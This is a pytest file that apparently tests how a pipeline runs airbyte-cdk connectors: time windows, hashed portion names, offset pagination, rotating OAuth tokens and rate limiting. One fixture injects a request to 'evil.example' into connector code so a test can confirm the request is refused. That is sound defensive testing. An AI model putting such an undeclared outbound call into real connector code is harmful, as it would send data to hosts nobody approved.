"""What airbyte-cdk reads for a batch: its window and no more, nothing that moved left out, and what of its failures is told."""

from __future__ import annotations

import hashlib
import re
import sys
from collections.abc import Callable, Iterator, Mapping
from datetime import timedelta
from typing import Any

import pytest

from shared_metadata.contract.runtime.staging import Staging
from shared_metadata.program import Mask
from systems.rest.airbyte import process
from systems.rest.airbyte.process import Kit
from tests.conformance.collect import COLUMNS, Collecting, label_rows
from tests.conformance.fixtures import Cloud, FakeContext
from tests.conformance.masking import KEY, kept_documents, salts_of
from tests.systems.rest import things
from tests.systems.rest.airbyte.under_test import COMPONENTS, SOME, CodedUnderTest, coded
from tests.systems.rest.things import FORM

pytestmark = [pytest.mark.deep, pytest.mark.nightly(6), pytest.mark.budget(60), pytest.mark.timeout(900)]
Asked = list[tuple[str, Mapping[str, str]]]
RAISING = COMPONENTS.replace("yield from", "raise KeyError('hidden-row')\n        yield from")
NEEDING = COMPONENTS.replace("from dataclasses", "import no_such_package\nfrom dataclasses")
GOING = COMPONENTS.replace("print(", "import requests\n        requests.get('http://evil.example/hidden-row')\n        print(")
ROTATING = {
    "type": "OAuthAuthenticator",
    "token_refresh_endpoint": "{{ config['url'] }}/token",
    "client_id": "a",
    "client_secret": "b",
    "refresh_token": "{{ config['token'] }}",
    "refresh_token_updater": {
        "refresh_token_config_path": ["token"],
        "access_token_config_path": ["access"],
        "token_expiry_date_config_path": ["expires"],
    },
}


@pytest.fixture
def collecting(cloud: Cloud, source: CodedUnderTest) -> Collecting:
    return Collecting(cloud, source)


@pytest.fixture
def asked(source: CodedUnderTest, monkeypatch: pytest.MonkeyPatch) -> Asked:
    """What is asked for of the API, in order."""
    found, whole = Asked(), source.things.answer

    def answer(path: str, query: Mapping[str, str], authorization: str) -> tuple[int, Any]:
        found.append((path[1:], query))
        return whole(path, query, authorization)

    monkeypatch.setattr(source.things, "answer", answer)
    return found


def test_a_batch_asks_for_its_own_time_and_takes_its_rows_once(
    collecting: Collecting, source: CodedUnderTest, asked: Asked, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In processes that are begun as a function begins them; those of other tests have airbyte-cdk from the beginning."""
    monkeypatch.setattr(process, "BEGINS", (sys.executable, "-m", process.PACKAGE))
    table = source.create_table(COLUMNS)
    source.put(table, label_rows(["a", "b", "c"]), collecting.at)
    collecting.collect(table)
    collecting.run()
    assert collecting.labels() == ["a", "b", "c"]
    source.put(table, label_rows(["b"]), collecting.at)
    source.put(table, label_rows(["later"]), collecting.at + timedelta(hours=1))
    asked.clear()
    collecting.run()
    assert collecting.labels() == ["b"]
    interval = collecting.versions()[0].interval
    windows = {(query["from"], query["to"], query["some"]) for path, query in asked if path == table}
    edges = interval.start - timedelta(seconds=61), interval.end + timedelta(seconds=1)  # the lag of a minute, and a second
    assert windows == {(*(f"{edge:{FORM}}" for edge in edges), some) for some in SOME}


@pytest.fixture
def portions(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """What the runner calls the portions that it comes to, call after call."""
    found, whole = list[str](), Kit.lines

    def lines(kit: Kit, job: Mapping[str, Any]) -> Iterator[bytes]:
        for line in whole(kit, job):
            if line.startswith(b"=portion "):
                found.append(line.decode().split()[1])
            yield line

    monkeypatch.setattr(Kit, "lines", lines)
    return found


def short(step: str) -> FakeContext:
    """The time of a call, which for extract is over after each portion."""
    return FakeContext(5.0 if step == "extract" else 900.0)


@pytest.mark.parametrize("masks", [{}, {"id": Mask.HASH}], ids=["as it is", "hashed"])
def test_what_calls_keep_of_portions_cannot_be_tried_out_by_what_lies_beside_it(
    collecting: Collecting,
    source: CodedUnderTest,
    portions: list[str],
    monkeypatch: pytest.MonkeyPatch,
    masks: dict[str, Mask],
) -> None:
    """Of a table of which nothing is hashed it can, so this would be seen."""
    kept, table = kept_documents(monkeypatch), source.create_table(COLUMNS)
    collecting.cloud.put_secret("mask", {"key": KEY})
    source.put(table, label_rows([f"row {number}" for number in range(10)]), collecting.at)
    collecting.collect(table, masks=masks, mask_key="mask" if masks else "")
    collecting.run(context=short)
    (salt,) = salts_of(kept)
    tried = {hashlib.blake2b(name.encode(), digest_size=16, key=salt.encode()).hexdigest() for name in portions}
    known = {one for told in kept if told.get("salted") for one in told["portions"]}
    assert known and (not known & {*tried, *portions} if masks else known <= tried)


def test_portions_that_a_former_version_has_read_are_not_read_again(
    collecting: Collecting, source: CodedUnderTest, portions: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """One that kept the runner's own names of them, and no salt."""
    read, answer, write = list[str](), Kit.answer, Staging.write
    table, labels = source.create_table(COLUMNS), [f"row {number}" for number in range(10)]

    def former(staging: Staging, value: Any, *parts: str) -> str:
        if "salted" in value:
            value = {"portions": read}
        elif value.get("resume"):
            value = {**value, "resume": {name: told for name, told in value["resume"].items() if name != "salt"}}
        return write(staging, value, *parts)

    def answered(kit: Kit, word: str) -> None:
        if word == "next":
            read.append(portions[-1])
        answer(kit, word)

    monkeypatch.setattr(Staging, "write", former)
    monkeypatch.setattr(Kit, "answer", answered)
    source.put(table, label_rows(labels), collecting.at)
    collecting.collect(table)
    assert collecting.run(context=short).calls["extract"] == len(SOME)
    assert collecting.labels() == labels


@pytest.mark.parametrize(
    ("components", "told"),
    [
        (RAISING, r"slices/collect/things/components\.py:17: extract_records of its code raises KeyError"),
        (NEEDING, r"slices/collect/things/components\.py:3: its code needs no_such_package, which is not among its packages"),
        (
            COMPONENTS.replace("class Within", "class Without"),
            r"the manifest names source_things\.components\.Within, which no file beside it has",
        ),
        (GOING, r"a request would go to evil\.example, which the manifest does not name"),
    ],
    ids=["raises", "lacks a package", "has no such class", "asks elsewhere"],
)
def test_what_its_code_does_wrongly_is_told_with_place_and_remedy_and_no_data(
    collecting: Collecting, source: CodedUnderTest, components: str, told: str
) -> None:
    source.components = components
    source.rewrite()
    collecting.collect(source.create_table(COLUMNS))
    refusal = collecting.refusal()
    assert re.search(told, refusal) and "Remedy: " in refusal and "hidden" not in refusal, refusal


def test_a_login_whose_tokens_rotate_is_refused_before_it_takes_one(
    collecting: Collecting, source: CodedUnderTest, asked: Asked
) -> None:
    def signed(stream: Mapping[str, Any]) -> dict[str, Any]:
        found = coded(stream)
        found["retriever"]["requester"] = {**found["retriever"]["requester"], "authenticator": ROTATING}
        return found

    source.shaped = signed
    source.rewrite()
    collecting.collect(source.create_table(COLUMNS))
    assert "takes a new refresh token for each" in collecting.refusal() and asked == []


def numbered(stream: Mapping[str, Any]) -> dict[str, Any]:
    """A stream whose pages are offsets."""
    found = coded(stream)
    del found["retriever"]["partition_router"]
    option = {"type": "RequestOption", "inject_into": "request_parameter", "field_name": "offset"}
    strategy = {"type": "OffsetIncrement", "page_size": 5}
    found["retriever"]["paginator"] = {"type": "DefaultPaginator", "page_token_option": option, "pagination_strategy": strategy}
    return found


def test_rows_that_move_between_numbered_pages_are_none_of_them_left_out(
    collecting: Collecting, source: CodedUnderTest, monkeypatch: pytest.MonkeyPatch
) -> None:
    source.shaped = numbered
    source.rewrite()
    table = source.create_table(COLUMNS)
    source.put(table, label_rows([f"row {number:02d}" for number in range(12)]), collecting.at)
    moves = iter([f"id{1:08d}"])

    def answer(path: str, query: Mapping[str, str], _: str) -> tuple[int, Any]:
        rows, offset = source.things.tables.get(path[1:], {}), int(query.get("offset", 0))
        found = [row for _, row in sorted(rows.items())][offset : offset + 5]
        if offset == 0 and len(found) == 5 and (gone := next(moves, "")):
            rows.pop(gone)  # between the first page and the second, so that the sixth row moves onto the first
        return 200, {"data": found}

    monkeypatch.setattr(source.things, "answer", answer)
    collecting.collect(table, incremental=False)
    collecting.run()
    assert collecting.labels() == [f"row {number:02d}" for number in range(1, 12)]


def of_parents(stream: Mapping[str, Any]) -> dict[str, Any]:
    """A stream that is read by the records of another one, whose pages are offsets; the parents' own stays as it is."""
    found = numbered(stream)
    if stream["name"] in ("check", "thing0"):
        return found
    parent = {"type": "ParentStreamConfig", "stream": numbered(things.stream("thing0", {"id": things.TYPES["string"]}))}
    router = {"type": "SubstreamPartitionRouter", "parent_stream_configs": [{**parent, "parent_key": "id", "partition_field": "of"}]}
    del found["retriever"]["paginator"]
    found["retriever"]["partition_router"] = router
    requester = found["retriever"]["requester"]
    found["retriever"]["requester"] = {**requester, "path": f"{stream['name']}/{{{{ stream_partition.of }}}}"}
    return found


def test_children_of_parents_that_move_are_none_of_them_left_out(
    collecting: Collecting, source: CodedUnderTest, monkeypatch: pytest.MonkeyPatch
) -> None:
    source.shaped = of_parents
    source.rewrite()
    parents, children = source.create_table(COLUMNS), source.create_table(COLUMNS)
    source.put(parents, label_rows([f"parent {number:02d}" for number in range(12)]), collecting.at)
    moves = iter([f"id{1:08d}"])

    def answer(path: str, query: Mapping[str, str], _: str) -> tuple[int, Any]:
        table, _, of = path[1:].partition("/")
        rows, offset = source.things.tables.get(table, {}), int(query.get("offset", 0))
        if of:
            return 200, {"data": [{"id": f"of {of}", "label": of, "updated": f"{collecting.at:{FORM}}"}]}
        found = [row for _, row in sorted(rows.items())][offset : offset + 5]
        if table == parents and offset == 0 and (gone := next(moves, "")):
            rows.pop(gone)
        return 200, {"data": found}

    monkeypatch.setattr(source.things, "answer", answer)
    collecting.collect(children, incremental=False)
    collecting.run()
    assert collecting.labels() == [f"id{number:08d}" for number in range(2, 13)]


@pytest.mark.parametrize(("header", "told"), [("120", "asks for a pause of 121 s with 429")])
def test_an_api_that_asks_for_a_long_pause_is_asked_again_later(
    collecting: Collecting, source: CodedUnderTest, header: str, told: str, limited: Callable[[str], None]
) -> None:
    table = source.create_table(COLUMNS)
    source.put(table, label_rows(["a"]), collecting.at)
    collecting.collect(table)
    limited(header)
    assert told in collecting.refusal()


@pytest.fixture
def limited(source: CodedUnderTest, monkeypatch: pytest.MonkeyPatch) -> Callable[[str], None]:
    """Has the API answer 429 with this Retry-After."""

    def limit(header: str) -> None:
        def waiting(stream: Mapping[str, Any]) -> dict[str, Any]:
            found = coded(stream)
            backoff = {"type": "DefaultErrorHandler", "backoff_strategies": [{"type": "WaitTimeFromHeader", "header": "Retry-After"}]}
            found["retriever"]["requester"] = {**found["retriever"]["requester"], "error_handler": backoff}
            return found

        source.shaped = waiting
        source.rewrite()
        source.things.retry_after = header
        monkeypatch.setattr(source.things, "answer", lambda *_: (429, {}))

    return limit
